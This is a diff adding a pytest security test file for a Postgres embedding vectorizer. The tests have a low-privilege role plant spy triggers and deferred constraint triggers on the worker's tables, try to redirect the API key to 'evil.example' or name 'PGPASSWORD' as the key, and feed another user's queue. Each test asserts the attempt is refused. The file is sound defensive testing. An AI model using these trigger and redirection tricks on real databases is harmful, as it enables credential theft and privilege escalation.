@@ -1,0 +1,114 @@
+"""Whatever a vectorizer's owner makes run, runs with his own rights."""
+
+import pytest
+from support import vectorizer
+from support.wait import eventually
+
+SPY = """
+    CREATE TABLE seen (who text, what text);
+    CREATE FUNCTION spy() RETURNS trigger LANGUAGE plpgsql AS $$
+    BEGIN
+        INSERT INTO public.seen VALUES (current_user, TG_TABLE_NAME || ' ' || TG_NAME);
+        RETURN COALESCE(NEW, OLD);
+    END $$;
+"""
+
+
+@pytest.fixture
+def mallory(db, stub):
+    """An ordinary role with a vectorizer of his own; answers his name."""
+    role = f"mallory_{db.name}"
+    db.sql(f"CREATE ROLE {role} LOGIN")
+    db.sql(f"GRANT USAGE ON SCHEMA ai TO {role}; GRANT CREATE ON SCHEMA public TO {role}")
+    db.sql("CREATE TABLE document (id int PRIMARY KEY, body text)", user=role)
+    db.cluster.sql("ALTER SYSTEM SET pgai_rs.allowed_base_urls = 'http://127.0.0.1'")
+    db.cluster.reload()
+    vectorizer.create(db, stub.url, user=role)
+    yield role
+    db.cluster.sql("ALTER SYSTEM RESET pgai_rs.allowed_base_urls")
+    db.cluster.reload()
+    db.sql(f"DROP OWNED BY {role} CASCADE; DROP ROLE {role}")
+
+
+def test_he_may_have_one(db, mallory):
+    db.sql("INSERT INTO document VALUES (1, 'a|b')", user=mallory)
+    vectorizer.in_step(db, ["id"])
+
+
+def test_his_triggers_run_as_himself(db, mallory):
+    db.sql(SPY, user=mallory)
+    for table in ["document", "document_embedding_store", "ai._vectorizer_q_1", "ai._vectorizer_work_1"]:
+        db.sql(
+            f"CREATE TRIGGER spy BEFORE INSERT OR UPDATE OR DELETE ON {table} FOR EACH ROW EXECUTE FUNCTION spy()",
+            user=mallory,
+        )
+    # Deferred to the end of the transaction, when the worker would be itself again.
+    db.sql(
+        "CREATE CONSTRAINT TRIGGER late AFTER INSERT OR DELETE ON document_embedding_store"
+        " DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION spy()",
+        user=mallory,
+    )
+    db.sql("INSERT INTO document VALUES (1, 'a|b')")
+    db.sql("UPDATE document SET body = 'b|c'")
+    vectorizer.in_step(db, ["id"])
+    # In another's transaction there is no moment to run it early: refused rather than run as him.
+    with pytest.raises(Exception, match="cannot fire deferred trigger within security-restricted operation"):
+        db.sql("DELETE FROM document")
+    seen = db.sql("SELECT DISTINCT who, what FROM seen WHERE what NOT LIKE 'document spy'")
+    assert {who for who, _ in seen} == {mallory}
+    assert {"document_embedding_store late", "_vectorizer_work_1 spy", "_vectorizer_q_1 spy"} <= {w for _, w in seen}
+
+
+def test_a_trigger_cannot_put_its_work_off_to_when_the_worker_is_itself(db, mallory):
+    db.sql(SPY, user=mallory)
+    db.sql("""
+        CREATE FUNCTION put_off() RETURNS trigger LANGUAGE plpgsql AS $$
+        BEGIN SET CONSTRAINTS ALL DEFERRED; RETURN NEW; END $$;
+        CREATE TRIGGER a BEFORE INSERT ON document_embedding_store FOR EACH ROW EXECUTE FUNCTION put_off();
+        CREATE CONSTRAINT TRIGGER late AFTER INSERT ON document_embedding_store
+        DEFERRABLE FOR EACH ROW EXECUTE FUNCTION spy()
+    """, user=mallory)
+    db.sql("INSERT INTO document VALUES (1, 'a')", user=mallory)
+    eventually(
+        lambda: db.sql("SELECT details FROM ai.vectorizer_errors") or vectorizer.stored(db, ["id"]),
+        what="the row to be written or refused",
+    )
+    assert {who for [who] in db.sql("SELECT who FROM seen")} <= {mallory}
+
+
+def test_a_trigger_that_raises_harms_its_own_row_only(db, mallory):
+    db.sql("""
+        CREATE FUNCTION refuse() RETURNS trigger LANGUAGE plpgsql AS $$
+        BEGIN IF NEW.chunk = 'bad' THEN RAISE EXCEPTION 'not this one'; END IF; RETURN NEW; END $$;
+        CREATE TRIGGER refuse BEFORE INSERT ON document_embedding_store FOR EACH ROW EXECUTE FUNCTION refuse()
+    """, user=mallory)
+    db.sql("INSERT INTO document SELECT i, CASE i WHEN 7 THEN 'bad' ELSE 'good' END FROM generate_series(1, 20) i")
+    eventually(lambda: len(vectorizer.stored(db, ["id"])) == 19, what="the other rows to be written")
+    reason = eventually(lambda: db.sql("SELECT details ->> 'error_reason' FROM ai.vectorizer_errors"))
+    assert "not this one" in reason[0][0]
+
+
+def test_he_can_neither_send_the_key_elsewhere_nor_name_another(db, stub, mallory):
+    db.sql("CREATE TABLE other (id int PRIMARY KEY, body text)", user=mallory)
+
+    def refused(embedding: str) -> str:
+        with pytest.raises(Exception, match="not allowed on this server") as refusal:
+            vectorizer.create(db, stub.url, "other", user=mallory, embedding=embedding)
+        return refusal.value.sqlstate
+
+    assert refused("ai.embedding_openai('m', 8, base_url => 'http://evil.example/v1')") == "42501"
+    assert refused("ai.embedding_openai('m', 8, api_key_name => 'PGPASSWORD')") == "42501"
+
+
+def test_he_cannot_make_one_on_anothers_table(db, stub, mallory):
+    db.sql("CREATE TABLE secret (id int PRIMARY KEY, body text)")
+    with pytest.raises(Exception, match="only a superuser or the owner of the source table"):
+        vectorizer.create(db, stub.url, "secret", user=mallory)
+
+
+def test_he_cannot_feed_anothers_queue(db, mallory):
+    db.sql("CREATE TABLE bait (id int PRIMARY KEY)", user=mallory)
+    with pytest.raises(Exception, match="permission denied for function ai._vectorizer_source_changed"):
+        db.sql(
+            "CREATE TRIGGER t AFTER INSERT ON bait EXECUTE FUNCTION ai._vectorizer_source_changed('1')", user=mallory
+        )
